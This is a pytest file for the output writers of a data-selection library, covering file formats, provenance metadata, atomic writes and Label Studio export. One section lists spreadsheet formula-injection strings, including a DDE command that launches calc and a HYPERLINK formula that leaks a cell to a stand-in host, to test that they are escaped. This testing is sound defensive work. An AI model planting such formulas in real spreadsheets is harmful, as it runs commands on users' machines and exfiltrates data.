"""Results to files: what was written is what others read, whole or not at all, the same bytes every time."""

import csv
import datetime
import decimal
import io
import json
import os
import re
import sys
import time

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

import oracles
import protosieve
from io_files import read
from protosieve.errors import InputError, OutputError, ParameterError, ProtosieveError, ProtosieveWarning
from protosieve.result.files import Destination, check_output, write_table
from protosieve.result.files._read import read_result
from protosieve.result.files._write import escaped

ENDINGS = ["parquet", "arrow", "csv", "tsv", "jsonl", "json", "npz"]
PROVENANCE = {"version": "1", "seed": 0, "residual": 0.25, "files": ["ä.csv"], "nan": float("nan")}
KEPT = {**PROVENANCE, "nan": None}  # JSON has no NaN


@pytest.fixture
def table():
    return pa.table(
        {
            "row": [3, 1, 2],
            "weight": pa.array([0.1, 0.25, 1 / 3], pa.float32()),
            "name": ["plain", 'a "quoted", one\nof two lines', None],
            "kind": pa.array(["x", "y", "x"]).dictionary_encode(),
            "good": [True, None, False],
            "vector": pa.array([[1.0, 0.1], [2.0, 0.2], [3.0, 0.3]], pa.list_(pa.float32(), 2)),
            "day": [datetime.date(2024, 2, 29), None, datetime.date(1969, 12, 31)],
            "at": pa.array([datetime.datetime(2024, 2, 29, 12, 30)] * 3, pa.timestamp("us", "UTC")),
            "hollow": [1.5, None, float("nan")],
        }
    )


JSON_ROWS = [
    {
        "row": 3, "weight": 0.1, "name": "plain", "kind": "x", "good": True, "vector": [1.0, 0.1], "day": "2024-02-29",
        "at": "2024-02-29T12:30:00.000000Z", "hollow": 1.5,
    },
    {
        "row": 1, "weight": 0.25, "name": 'a "quoted", one\nof two lines', "kind": "y", "good": None,
        "vector": [2.0, 0.2], "day": None, "at": "2024-02-29T12:30:00.000000Z", "hollow": None,
    },
    {
        "row": 2, "weight": 0.33333334, "name": None, "kind": "x", "good": False, "vector": [3.0, 0.3],
        "day": "1969-12-31", "at": "2024-02-29T12:30:00.000000Z", "hollow": None,
    },
]  # fmt: skip


def test_parquet_keeps_types_and_provenance(table, tmp_path):
    write_table(table, tmp_path / "out.parquet", PROVENANCE)
    found = pq.read_table(tmp_path / "out.parquet")
    assert found.schema.equals(table.schema)
    assert str(found.to_pylist()) == str(table.to_pylist())  # NaN is not equal to itself
    assert json.loads(found.schema.metadata[b"protosieve"]) == KEPT


def test_arrow_keeps_types_and_provenance(table, tmp_path):
    chunks = pa.concat_tables([table.slice(0, 1), table.slice(1)])
    write_table(chunks, str(tmp_path / "out.arrow"), PROVENANCE)
    found = pa.ipc.open_file(tmp_path / "out.arrow").read_all()
    assert str(found.to_pylist()) == str(table.to_pylist())
    assert json.loads(found.schema.metadata[b"protosieve"]) == KEPT


def test_metadata_that_was_there_stays(tmp_path):
    table = pa.Table.from_pandas(pd.DataFrame({"a": [1]}))
    write_table(table, tmp_path / "out.parquet", PROVENANCE)
    assert b"pandas" in pq.read_schema(tmp_path / "out.parquet").metadata


def test_json_lines_are_one_object_a_row(table, tmp_path):
    write_table(table, tmp_path / "out.jsonl", PROVENANCE)
    assert [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()] == JSON_ROWS


def test_json_is_one_object_with_provenance(table, tmp_path):
    write_table(table, tmp_path / "out.json", PROVENANCE)
    found = json.loads((tmp_path / "out.json").read_text())
    assert found == {"provenance": KEPT, "prototypes": JSON_ROWS}


@pytest.mark.parametrize(("ending", "separator"), [("csv", ","), ("tsv", "\t")])
def test_delimited_text_has_a_cell_for_everything(ending, separator, table, tmp_path):
    write_table(table, tmp_path / f"out.{ending}", PROVENANCE)
    with (tmp_path / f"out.{ending}").open(newline="") as file:
        header, *rows = csv.reader(file, delimiter=separator)
    assert header == table.column_names
    assert rows[0] == [
        "3",
        "0.1",
        "plain",
        "x",
        "true",
        "[1.0, 0.1]",
        "2024-02-29",
        "2024-02-29T12:30:00.000000Z",
        "1.5",
    ]
    assert rows[1][2:5] == ['a "quoted", one\nof two lines', "y", ""]
    assert rows[2][1:3] == ["0.33333334", ""]
    assert rows[2][-1] == "nan"


def test_npz_has_an_array_for_each_column_and_no_objects(table, tmp_path):
    write_table(table, tmp_path / "out.npz", PROVENANCE)
    with np.load(tmp_path / "out.npz", allow_pickle=False) as found:
        arrays = dict(found)
    provenance = json.loads(str(arrays.pop("provenance")))
    assert provenance.pop("nulls") == {"name": [2], "good": [1], "day": [1], "hollow": [1]}
    assert provenance == KEPT
    assert {name: array.dtype.str for name, array in arrays.items()} == {
        "row": "<i8", "weight": "<f4", "name": "<U28", "kind": "<U1", "good": "<f8", "vector": "<f4", "day": "<M8[D]",
        "at": "<M8[us]", "hollow": "<f8",
    }  # fmt: skip
    assert arrays["vector"].shape == (3, 2)
    np.testing.assert_array_equal(arrays["weight"], table["weight"].to_numpy())
    np.testing.assert_array_equal(arrays["good"], [1, np.nan, 0])
    np.testing.assert_array_equal(arrays["day"], np.array(["2024-02-29", "NaT", "1969-12-31"], "M8[D]"))
    assert arrays["name"].tolist() == ["plain", 'a "quoted", one\nof two lines', ""]


def test_npz_writes_lists_of_other_lengths_as_text(tmp_path):
    write_table(pa.table({"v": [[1.0], [2.0, 3.0]], "w": [[1], None], "n": [None, None]}), tmp_path / "out.npz", {})
    with np.load(tmp_path / "out.npz", allow_pickle=False) as found:
        assert found["v"].tolist() == ["[1.0]", "[2.0, 3.0]"]
        assert found["w"].tolist() == ["[1]", ""]
        assert found["n"].tolist() == ["", ""]


def test_npz_has_no_room_for_a_column_called_provenance(tmp_path):
    with pytest.raises(
        OutputError, match=r"a column is called 'provenance', which is where \.npz keeps how the result"
    ):
        write_table(pa.table({"provenance": ["x"]}), tmp_path / "out.npz", {})


UNUSUAL = {
    "struct": pa.array([{"a": 1, "b": [datetime.date(2024, 1, 1)]}, None]),
    "bytes": pa.array([b"\xff", None]),
    "decimal": pa.array([decimal.Decimal("1.10"), None]),
    "time": pa.array([datetime.time(1, 2, 3), None]),
    "duration": pa.array([datetime.timedelta(seconds=1.5), None]),
    "zone": pa.array([0, None], pa.timestamp("ns", "+01:30")),
    "half": pa.array([np.float16(0.5), None], pa.float16()),
    "large": pa.array(["x", None], pa.large_string()),
    "lists": pa.array([[["a"], None], None]),
    "map": pa.array([[("k", 1)], None], pa.map_(pa.string(), pa.int64())),
}
PLAIN = {
    "struct": {"a": 1, "b": ["2024-01-01"]},
    "bytes": "/w==",
    "decimal": "1.10",
    "time": "01:02:03.000000",
    "duration": 1.5,
    "zone": "1970-01-01T00:00:00.000000000Z",
    "half": 0.5,
    "large": "x",
    "lists": [["a"], None],
    "map": [["k", 1]],
}


@pytest.mark.parametrize("name", UNUSUAL)
def test_unusual_columns_are_written_everywhere(name, tmp_path):
    table = pa.table({"v": UNUSUAL[name]})
    for ending in ENDINGS:
        write_table(table, tmp_path / f"out.{ending}", {})
    rows = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert rows == [{"v": PLAIN[name]}, {"v": None}]
    assert pq.read_table(tmp_path / "out.parquet").num_rows == 2
    np.load(tmp_path / "out.npz", allow_pickle=False)["v"]


def test_a_type_that_a_format_does_not_know_is_one_line(tmp_path):
    table = pa.table({"v": pa.array([{}, None], pa.struct([]))})
    with pytest.raises(OutputError, match=r"out\.parquet: cannot hold this result: .*struct.*; choose another format$"):
        write_table(table, tmp_path / "out.parquet", {})
    write_table(table, tmp_path / "out.jsonl", {})
    assert (tmp_path / "out.jsonl").read_text() == '{"v": {}}\n{"v": null}\n'


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_table_without_rows_is_written_too(ending, table, tmp_path):
    write_table(table.slice(3), tmp_path / f"out.{ending}", PROVENANCE)
    assert (tmp_path / f"out.{ending}").exists()


@pytest.mark.parametrize("ending", ["parquet", "arrow", "csv", "tsv", "jsonl", "npz"])
def test_what_is_written_can_be_read_again(ending, table, tmp_path):
    write_table(table, tmp_path / f"out.{ending}", PROVENANCE)
    rows = read(tmp_path / f"out.{ending}")[1]
    assert [float(row["weight"]) for row in rows] == pytest.approx([0.1, 0.25, 1 / 3], rel=1e-7)
    assert list(rows[0]) == table.column_names


@pytest.mark.parametrize("ending", ENDINGS)
def test_the_same_result_is_the_same_bytes(ending, table, tmp_path, monkeypatch):
    write_table(table, tmp_path / f"one.{ending}", PROVENANCE)
    later = time.time() + 1e7
    monkeypatch.setattr(time, "time", lambda: later)
    monkeypatch.setattr(time, "localtime", lambda *_: time.gmtime(later))
    write_table(table, tmp_path / f"two.{ending}", PROVENANCE)
    assert (tmp_path / f"one.{ending}").read_bytes() == (tmp_path / f"two.{ending}").read_bytes()


# --- text that a spreadsheet would run

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "-A1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=A1", "-x y",
    '=HYPERLINK("http://x/?"&A1,"a")', "-1,5", "--1", "+49 170", "'=1+1", "''-x", "'-5", "'@name",
]  # fmt: skip
HARMLESS = [
    "plain", "", "-", "+", "--", "@", "===", "-2.5", "+1e-5", "-.5", "-inf", "007", "@name", "a=1", " =1", "'", "'tis",
    "a\rb", "(-1)", None,
]  # fmt: skip
RUN_BY_SPREADSHEETS = tuple("=+-@\t\r\n")


def unescaped(cell):
    """As docs/formats.md says."""
    return re.sub(r"^'(?='*[=+\-@\t\r\n])", "", cell)


def cells_of(path, separator):
    """As the standard library reads them."""
    with path.open(newline="") as file:
        return list(csv.reader(file, delimiter=separator))


@pytest.mark.parametrize(("ending", "separator"), [("csv", ","), ("tsv", "\t")])
def test_text_that_a_spreadsheet_would_run_is_marked_and_comes_back(ending, separator, tmp_path):
    path = tmp_path / f"out.{ending}"
    with pytest.warns(ProtosieveWarning, match=r"^20 cells of text would be run .* such as '=name': written with '"):
        write_table(pa.table({"=name": FORMULAS, "row": range(len(FORMULAS))}), path, {})
    header, *rows = cells_of(path, separator)
    assert not any(cell.startswith(RUN_BY_SPREADSHEETS) for cell, _ in rows)
    assert header == ["'=name", "row"]
    assert [unescaped(cell) for cell, _ in rows] == FORMULAS
    assert [row["row"] for row in read(path)[1]] == [str(i) for i in range(len(FORMULAS))]  # no line is broken
    assert [unescaped(row["'=name"]) for row in read(path)[1]] == FORMULAS


@pytest.mark.filterwarnings("error")
def test_all_other_text_is_written_as_it_is(tmp_path):
    write_table(pa.table({"@timestamp": HARMLESS, "row": range(len(HARMLESS))}), tmp_path / "out.csv", {})
    assert [cell for cell, _ in cells_of(tmp_path / "out.csv", ",")] == [
        "@timestamp",
        *(text or "" for text in HARMLESS),
    ]
    assert [unescaped(text) for text in HARMLESS if text is not None] == [text for text in HARMLESS if text is not None]


@pytest.mark.filterwarnings("error")
def test_what_is_no_text_is_never_marked(tmp_path):
    columns = {
        "whole": pa.array([-1, -(2**63)]),
        "part": pa.array([-0.5, float("-inf")]),
        "exact": pa.array([decimal.Decimal("-1.10"), None]),
        "bytes": pa.array([b"\xfb\xef\xbe", None]),  # ++++ in base64
        "early": pa.array([-(10**6), None], pa.date32()),  # before the year 0
    }
    write_table(pa.table(columns), tmp_path / "out.csv", {})
    rows = cells_of(tmp_path / "out.csv", ",")[1:]
    assert rows == [
        ["-1", "-0.5", "-1.10", "++++", str(np.datetime64(-(10**6), "D"))],
        [str(-(2**63)), "-inf", "", "", ""],
    ]


def test_categories_are_text_too(tmp_path):
    with pytest.warns(ProtosieveWarning, match=r"^2 cells of text"):
        write_table(pa.table({"kind": pa.array(["=1", "=1", "b"]).dictionary_encode()}), tmp_path / "out.csv", {})
    assert cells_of(tmp_path / "out.csv", ",")[1:] == [["'=1"], ["'=1"], ["b"]]


@given(st.text(alphabet="'=+-@\t\r\n1a.e ", max_size=6))
def test_marks_can_always_be_taken_off(text):
    assert unescaped(escaped(text)) == text


@pytest.mark.filterwarnings("error")
@pytest.mark.parametrize("ending", ["parquet", "arrow", "json", "npz"])
def test_formats_with_types_keep_formulas_as_text(ending, tmp_path):
    path = tmp_path / f"out.{ending}"
    table = pa.table({"name": FORMULAS})
    write_table(table, path, {"command": "", "version": "", "encoding": {}})
    read = {
        "json": lambda: [row["name"] for row in json.loads(path.read_text())["prototypes"]],
        "npz": lambda: np.load(path)["name"].tolist(),
    }
    assert read.get(ending, lambda: read_result(path)[0]["name"].to_pylist())() == FORMULAS


# --- to where people label


def imported(path, **shown):
    """The tasks of a file by Label Studio's rules for importing one, where its labelling shows these data, by tag."""
    tasks = json.loads(path.read_text(encoding="utf-8"), parse_constant=lambda word: pytest.fail(word))
    assert isinstance(tasks, list)
    assert tasks, "data is empty"
    for task in tasks:
        assert isinstance(task, dict)
        assert isinstance(task["data"], dict)
        for name, tag in shown.items():
            assert isinstance(task["data"][name], (str, int, float) if tag == "Text" else str)
    return [task["data"] for task in tasks]


CELLS = {
    "text": st.none() | st.text(st.characters(codec="utf-8")),
    "whole": st.none() | st.integers(-(2**63), 2**63 - 1),
    "part": st.none() | st.floats(),
    "weight": st.floats(0, 1),
    "protosieve_row": st.booleans(),
}
TYPES = {"text": pa.string(), "whole": pa.int64(), "part": pa.float64(), "weight": pa.float64()}


@given(st.lists(st.fixed_dictionaries(CELLS), min_size=1, max_size=5), st.sets(st.sampled_from(sorted(CELLS))))
def test_tasks_are_the_rows_under_their_own_names(tmp_path_factory, rows, names):
    path, n = tmp_path_factory.mktemp("tasks") / "tasks.json", len(rows)
    columns = {"row": range(n), "file": ["f"] * n, "weight": [0.5] * n, "share": [1.0] * n}
    for name in sorted(names):
        cells = pa.array([row[name] for row in rows], TYPES.get(name))
        columns["input_weight" if name == "weight" else name] = cells
    write_table(pa.table(columns), Destination(str(path), "label-studio"), {"renamed": {"weight": "input_weight"}})
    number = "protosieve_row_" if "protosieve_row" in names else "protosieve_row"
    tasks = imported(path, **dict.fromkeys(names & {"text"}, "Text"))
    assert len(tasks) == n
    for i, (data, row) in enumerate(zip(tasks, rows, strict=True)):
        ours = {number: i, "protosieve_file": "f", "protosieve_weight": 0.5, "protosieve_share": 1.0}
        assert data == {**ours, **oracles.task_of({name: row[name] for name in names})}


def test_tasks_of_all_types_are_plain_values(table, tmp_path, monkeypatch):
    place = Destination(str(tmp_path / "tasks.json"), "label-studio")
    write_table(table, place, PROVENANCE)
    data = imported(tmp_path / "tasks.json", name="Text", kind="Text", weight="Text")
    assert data == [{**row, "name": row["name"] or ""} for row in JSON_ROWS]
    out = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", Standard(out))
    write_table(table, Destination("-", "label-studio"), PROVENANCE)
    assert out.getvalue() == (tmp_path / "tasks.json").read_bytes()


@pytest.mark.parametrize(("ending", "separator"), [("csv", ","), ("tsv", "\t")])
def test_a_column_to_fill_in_is_empty_and_last(ending, separator, tmp_path):
    path = tmp_path / f"out.{ending}"
    write_table(pa.table({"row": [3, 1], "text": ["a", None]}), Destination(str(path), None, "topic"), {})
    assert cells_of(path, separator) == [["row", "text", "topic"], ["3", "a", ""], ["1", "", ""]]
    with pytest.raises(ParameterError, match="label_column='text': there is a column of this name already; give anoth"):
        write_table(pa.table({"text": ["a"]}), Destination(str(path), None, "text"), {})
    assert cells_of(path, separator)[1] == ["3", "a", ""]


@pytest.mark.parametrize(
    ("output", "output_format", "label_column", "error", "words"),
    [
        (
            "out.csv",
            "label-studio",
            None,
            OutputError,
            r"out\.csv: tasks of Label Studio are JSON; end it in \.json, or",
        ),
        (
            "out.json",
            "labelbox",
            None,
            ParameterError,
            "^output_format must be 'label-studio', or left out .* 'labelbox'$",
        ),
        (None, "label-studio", None, ParameterError, "^output_format is about the file to write; give output too$"),
        (None, None, "topic", ParameterError, "^label_column is about the file to write; give output too$"),
        (
            "out.json",
            None,
            "topic",
            ParameterError,
            r"^label_column='topic' is a column to fill in by hand, in \.csv or",
        ),
        ("out.json", "label-studio", "topic", ParameterError, "^label_column='topic' is a column to fill in by hand"),
        ("out.csv", None, 7, ParameterError, "^label_column must be the name of a new column, got 7$"),
        ("out.csv", None, "x", ParameterError, "^label_column='x': there is a column of this name already"),
        ("out.csv", None, "share", ParameterError, "^label_column='share': there is a column of this name already"),
    ],
)
def test_forms_that_cannot_be_written_are_known_before_rows_are_read(
    output, output_format, label_column, error, words, tmp_path, monkeypatch
):
    monkeypatch.setattr("protosieve.run._select._result", lambda *_: pytest.fail("rows are read"))
    (tmp_path / "in.csv").write_text("x\n1\n2\n")
    place = None if output is None else tmp_path / output
    with pytest.raises(error, match=words):
        protosieve.select(tmp_path / "in.csv", 1, output=place, output_format=output_format, label_column=label_column)
    assert [path.name for path in tmp_path.iterdir()] == ["in.csv"]


def test_a_result_is_saved_as_select_writes_it(tmp_path):
    (tmp_path / "in.csv").write_text("weight,text\n1,a\n2,b\n,\n7,d\n")
    forms = {"tasks.json": {"output_format": "label-studio"}, "todo.csv": {"label_column": "topic"}, "rows.parquet": {}}
    for name, form in forms.items():
        result = protosieve.select(tmp_path / "in.csv", 3, goal="cover", output=tmp_path / name, **form)
        result.save(tmp_path / f"saved-{name}", **form)
        assert (tmp_path / f"saved-{name}").read_bytes() == (tmp_path / name).read_bytes()
    data = imported(tmp_path / "tasks.json", text="Text")
    assert [row["protosieve_row"] for row in data] == result.indices.tolist()
    assert [row["protosieve_weight"] for row in data] == result.weights.tolist()
    assert [row["weight"] for row in data] == [[1, 2, None, 7][i] for i in result.indices]
    in_memory = protosieve.ProtoSwap(1, random_state=0).fit([[0.0], [1.0]]).result_
    with pytest.raises(InputError, match=r"^these prototypes have no table: they were chosen from an array"):
        in_memory.save(tmp_path / "rows.csv")


def test_a_failed_write_of_tasks_leaves_the_previous_file(table, tmp_path, monkeypatch):
    (tmp_path / "tasks.json").write_text("before")
    monkeypatch.setattr(os, "fsync", lambda *_: (_ for _ in ()).throw(OSError(28, "No space left on device")))
    with pytest.raises(OutputError, match=r"tasks\.json: cannot be written: No space left on device"):
        write_table(table, Destination(str(tmp_path / "tasks.json"), "label-studio"), {})
    assert [path.read_text() for path in tmp_path.iterdir()] == ["before"]


# --- where it goes


@pytest.mark.parametrize(
    ("path", "match"),
    [
        ("out.xls", r"out\.xls: its ending names no format; end it in \.parquet, \.arrow, \.csv, .*, or give -$"),
        ("out", r"out: its ending names no format"),
        ("nowhere/out.csv", r"out\.csv: there is no folder '.*nowhere'; make it, or give another path$"),
        ("folder.csv", r"folder\.csv: is a folder; give the path of a file$"),
        ("file.csv/out.csv", r"out\.csv: there is no folder '.*file\.csv'; make it"),
    ],
)
def test_outputs_that_cannot_be_written_are_known_before_the_work(path, match, tmp_path, table):
    (tmp_path / "folder.csv").mkdir()
    (tmp_path / "file.csv").touch()
    for attempt in (lambda: check_output(tmp_path / path), lambda: write_table(table, tmp_path / path, {})):
        with pytest.raises(OutputError, match=match) as caught:
            attempt()
        assert "\n" not in str(caught.value)
    assert sorted(found.name for found in tmp_path.iterdir()) == ["file.csv", "folder.csv"]


def test_a_url_is_no_place_for_output():
    with pytest.raises(
        OutputError, match=r"^s3://b/out\.csv: results are written to files on this machine; write one and"
    ):
        check_output("s3://b/out.csv")


def test_a_folder_that_is_not_writable_is_known_before_the_work(tmp_path, monkeypatch):
    monkeypatch.setattr(os, "access", lambda *_: False)  # root may write anywhere
    with pytest.raises(OutputError, match=r"out\.csv: the folder '.*' is not writable; give another path$"):
        check_output(tmp_path / "out.csv")


def test_good_outputs_pass(tmp_path):
    assert [check_output(tmp_path / f"out.{ending}") for ending in [*ENDINGS, "CSV"]] == [None] * 8
    assert check_output("-") is None
    assert list(tmp_path.iterdir()) == []


def test_a_failed_write_leaves_the_previous_file(table, tmp_path, monkeypatch):
    (tmp_path / "out.csv").write_text("before")

    def full(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(
        OutputError, match=r"out\.csv: cannot be written: No space left on device; whatever stood there"
    ):
        write_table(table, tmp_path / "out.csv", {})
    assert (tmp_path / "out.csv").read_text() == "before"
    assert [path.name for path in tmp_path.iterdir()] == ["out.csv"]


def test_a_really_full_disk_leaves_nothing_behind(tmp_path, full_disk):
    with full_disk(), pytest.raises(OutputError, match=r"out\.csv: cannot be written: File too large"):
        write_table(pa.table({"a": range(10_000)}), tmp_path / "out.csv", {})
    assert list(tmp_path.iterdir()) == []


def test_permissions_are_those_of_a_plain_open(table, tmp_path):
    (tmp_path / "plain").touch()
    write_table(table, tmp_path / "out.csv", {})
    assert (tmp_path / "out.csv").stat().st_mode == (tmp_path / "plain").stat().st_mode
    (tmp_path / "out.csv").chmod(0o640)
    write_table(table, tmp_path / "out.csv", {})
    assert (tmp_path / "out.csv").stat().st_mode & 0o777 == 0o640


class Standard:
    def __init__(self, buffer):
        self.buffer = buffer


def test_a_dash_is_json_lines_on_standard_output(table, monkeypatch):
    out = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", Standard(out))
    write_table(table, "-", PROVENANCE)
    assert [json.loads(line) for line in out.getvalue().decode().splitlines()] == JSON_ROWS


@pytest.mark.parametrize(
    ("error", "raised"), [(BrokenPipeError(32, "pipe"), BrokenPipeError), (OSError(28, "No space"), OutputError)]
)
def test_a_closed_pipe_is_the_callers_and_a_full_device_an_error(error, raised, table, monkeypatch):
    class Broken(io.BytesIO):
        def write(self, data):
            raise error

    monkeypatch.setattr(sys, "stdout", Standard(Broken()))
    with pytest.raises(raised, match=r"pipe|^standard output: cannot be written: No space; check its device$"):
        write_table(table, "-", {})


def test_output_errors_are_protosieve_errors():
    assert issubclass(OutputError, ProtosieveError)
